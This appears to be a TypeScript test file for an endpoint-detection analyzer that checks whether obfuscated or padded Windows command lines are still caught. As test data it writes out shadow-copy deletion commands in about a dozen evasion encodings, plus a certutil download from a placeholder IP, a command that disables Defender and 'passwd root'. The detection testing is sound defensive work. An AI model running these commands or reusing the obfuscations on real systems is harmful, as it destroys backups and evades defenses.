/** Command lines and events that are padded: what no bound lets through is said, and is never called benign. */
import { expect, test } from 'vitest';
import { assessHosts, checkCommands, createHostWatch } from '../../../analysis/endpoint/index.ts';
import { normalizeEvent } from '../../../analysis/events/index.ts';
import { openRecording } from '../../../analysis/recordings/index.ts';
import { literalContent } from '../../../seams/index.ts';
import { expectProportion } from '../../support/growth.ts';

const MIMIKATZ = 'vssadmin.exe delete shadows /all /quiet';
const encoded = (command: string) => `powershell -enc ${Buffer.from(command, 'utf16le').toString('base64')}`;
const decoys = (count: number) =>
  Array.from({ length: count }, (_, index) => `; ${encoded(`Write-Host 'number ${index}'`)}`).join('');

async function assess(event: object) {
  async function* bytes() {
    yield await Promise.resolve(Buffer.from(`${JSON.stringify(event)}\n`));
  }
  const watch = createHostWatch();
  const recording = openRecording({ name: 'events.jsonl', bytes: bytes() });
  for await (const batch of recording.batches) for (const each of batch) watch.note(each);
  const { sha256, items, items_read, unread } = recording.report();
  const { result } = await assessHosts(watch, {
    source: 'events.jsonl',
    checked: { question: '?', corpus: { sha256, items, items_read } },
    not_checked: unread.map((gap) => ({ ...gap, mandatory: true })),
    data_versions: {},
  });
  return result;
}
const start = (command: string, more: object = {}) => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: 1,
  Computer: 'WS-042',
  UtcTime: '2026-11-24 09:12:01.100',
  ProcessGuid: '{1}',
  ProcessId: 4,
  Image: 'C:\\Windows\\System32\\cmd.exe',
  CommandLine: command,
  ...more,
});

test.each([
  ['behind 70 000 characters', `cmd /c echo ${'A'.repeat(70_000)} & ${MIMIKATZ}`],
  ['in front of 70 000 characters', `cmd /c ${MIMIKATZ} & echo ${'A'.repeat(70_000)}`],
  ['behind the first eight encoded texts', `cmd /c rem ${decoys(20)}; ${encoded(MIMIKATZ)}`],
])('a command is found %s', async (_, command) => {
  expect(checkCommands([command], literalContent())).toMatchObject({ severity: 'critical' });
  expect(await assess(start(command))).toMatchObject({ severity: 'critical' });
});

const ERASE = 'vssadmin delete shadows /all';
const BASE64 = Buffer.from(ERASE).toString('base64');
const CODES = [...Buffer.from(ERASE)];
const PADDED: readonly (readonly [string, (blanks: string) => string])[] = [
  ['-enc', (blanks) => `powershell -enc${blanks}${Buffer.from(ERASE, 'utf16le').toString('base64')}`],
  ['set', (blanks) => `cmd /v:on /c set${blanks}a=vssad&&set${blanks}b=min&&!a!!b! delete shadows /all`],
  [
    'set of a value that is cut by its blanks',
    (blanks) =>
      `cmd /v:on /c set${blanks}"z=${blanks}vssadminelthow"&&!z:~${blanks.length},8!${blanks}d!z:~-6,1!!z:~-5,1!ete shadows /all`,
  ],
  [
    'set under carets',
    (blanks) => `cmd /v:on /c s^e^t${blanks}"z=${blanks}vssadmin"&&!z:~${blanks.length},8! delete shadows /all`,
  ],
  ['[char]', (blanks) => `powershell iex(${CODES.map((code) => `[char]${blanks}${code}`).join('+')})`],
  [
    '+ of characters',
    (blanks) => `powershell iex(${CODES.map((code) => `[char]${code}`).join(`${blanks}+${blanks}`)})`,
  ],
  ['codes', (blanks) => `powershell iex((${CODES.join(`${blanks},${blanks}`)}|%{[char]$_})-join'')`],
  ['-bxor', (blanks) => `powershell "${CODES.map((code) => code ^ 35).join(',')}|%{[char]($_ -bxor${blanks}35)}"`],
  [
    '-bxor of base64',
    (blanks) =>
      `FromBase64String('${Buffer.from(CODES.map((code) => code ^ 35)).toString('base64')}')|%{$_-bxor${blanks}35}`,
  ],
  [
    '-f',
    (blanks) => `powershell (${blanks}"{1}{0}"${blanks}-f${blanks}'min delete shadows /all'${blanks},${blanks}'vssad')`,
  ],
  ['+ of texts', (blanks) => `powershell iex('vssad'${blanks}+${blanks}'min delete shadows /all')`],
  ['openssl', (blanks) => `openssl${blanks}enc -d -a <<< ${BASE64}`],
];
test.each(
  PADDED.flatMap(([name, commandOf]) =>
    [' '.repeat(9), ' '.repeat(100), '\t'.repeat(9), ' \t\u00a0'.repeat(40)].map((blanks) => ({
      name,
      blanks,
      command: commandOf(blanks),
    })),
  ),
)('$blanks.length blanks at $name hide nothing', ({ command }) => {
  const { severity, mitre_techniques } = checkCommands([command], literalContent());
  expect({ severity, mitre_techniques }).toEqual({ severity: 'critical', mitre_techniques: ['T1490'] });
});

test.each([
  ['inside a value', (letters: string) => `cmd /v:on /c set "z=  vsadminelthow "&&${letters}`],
  ['before a name and inside its value', (letters: string) => `cmd /v:on /c set  "z=  vsadminelthow "&&${letters}`],
  ['inside a value without quotes', (letters: string) => `cmd /v:on /c set z=  vsadminelthow &&${letters}`],
])('a command is spelled by places that count two blanks %s', (_, commandOf) => {
  const spelled = Array.from(ERASE, (letter) =>
    letter === '/' ? '/' : `!z:~${'  vsadminelthow '.indexOf(letter)},1!`,
  );
  const { severity, mitre_techniques } = checkCommands([commandOf(spelled.join(''))], literalContent());
  expect({ severity, mitre_techniques }).toEqual({ severity: 'critical', mitre_techniques: ['T1490'] });
});

test('a change of the password of root is found behind any indent', () => {
  for (const blanks of [' '.repeat(17), '\t'.repeat(400)])
    expect(checkCommands([`${blanks}passwd root`], literalContent())).toMatchObject({ mitre_techniques: ['T1531'] });
});

test.each([
  [
    'between two times 70 000 characters',
    `cmd /c echo ${'A'.repeat(70_000)} & ${MIMIKATZ} & echo ${'A'.repeat(70_000)}`,
  ],
  ['between encoded texts', `cmd /c rem ${decoys(20)}; ${encoded(MIMIKATZ)} ${decoys(20)}`],
])('a command that is hidden %s leaves no benign verdict and no whole receipt', async (_, command) => {
  for (const result of [checkCommands([command], literalContent()), await assess(start(command))]) {
    expect(result.verdict).not.toBe('benign');
    expect(result.checked[0]?.corpus).toMatchObject({ items: 1, items_read: 0 });
    expect(JSON.stringify(result.not_checked)).toMatch(/command line|command 1/);
  }
});

test('an event with more fields than are read counts as unread and is named', async () => {
  const padding = Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`a${index}`, index]));
  const result = await assess({ eventSource: 'iam.amazonaws.com', ...padding, eventName: 'CreateUser' });
  expect(result).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 1, items_read: 0 } }] });
  expect(result.not_checked[0]?.why).toBe('it has more fields, values or layers than are read');
});

test('a grave finding is not crowded out by thousands of lesser ones', async () => {
  const watch = createHostWatch();
  const all = [
    ...Array.from({ length: 2_100 }, (_, index) => ({ command: 'certutil -urlcache -f http://198.51.100.7/a', index })),
    { command: MIMIKATZ, index: 2_100 },
  ];
  for (const { command, index } of all) {
    const event = normalizeEvent(start(command, { ProcessGuid: `{${index}}` }), `line ${index}`);
    if (event) watch.note(event);
  }
  const { result } = await assessHosts(watch, SEEN);
  expect(result.findings[0]).toMatchObject({ severity: 'critical' });
});

test('what starts when the tree is full is judged by what it says itself', async () => {
  const watch = createHostWatch();
  const note = (command: string, index: number) => {
    const event = normalizeEvent(start(command, { ProcessGuid: `{${index}}`, ProcessId: index }), `line ${index}`);
    if (event) watch.note(event);
  };
  for (let index = 0; index < 50_001; index += 1) note('notepad.exe', index);
  note('powershell Set-MpPreference -DisableRealtimeMonitoring $true', 50_001);
  const { result } = await assessHosts(watch, SEEN);
  expect(result.findings).toMatchObject([{ rule: 'command/defender-off', severity: 'high' }]);
  expect(result.not_checked).toContainEqual(
    expect.objectContaining({
      what: '2 starts of processes in part',
      why: expect.stringContaining('tree is full') as string,
    }),
  );
}, 60_000);

test('a log that lacks records is never clean, whole ids are', async () => {
  const verdictOf = async (ids: number[]) => {
    const watch = createHostWatch();
    for (const id of ids) {
      const event = normalizeEvent(start('notepad.exe', { ProcessGuid: `{${id}}` }), `a.evtx record ${id}`);
      if (event) watch.note(event);
    }
    return (await assessHosts(watch, SEEN)).result.verdict;
  };
  expect(await verdictOf([7, 8, 9])).toBe('benign');
  expect(await verdictOf([7, 9])).toBe('inconclusive');
});

const SEEN = {
  source: 'events',
  checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
  not_checked: [],
  data_versions: {},
};

test.each([
  ' ',
  ' \t',
  'set ',
  '-bxor  ',
  '( ',
  '"{0}" ',
  '[char]65 ',
  '1 ',
  'set a=',
  'set  "a=',
  'set  ',
  '%a%',
  '-bxor ',
  'Invoke-A {',
  'rm -r',
  'tar -c',
  '\\ ',
])('a command line of %j costs time in proportion to its length (ATK-A9)', async (unit) => {
  await expectProportion(unit, 30_000, (text) => checkCommands([`x${text}x`], literalContent()));
});
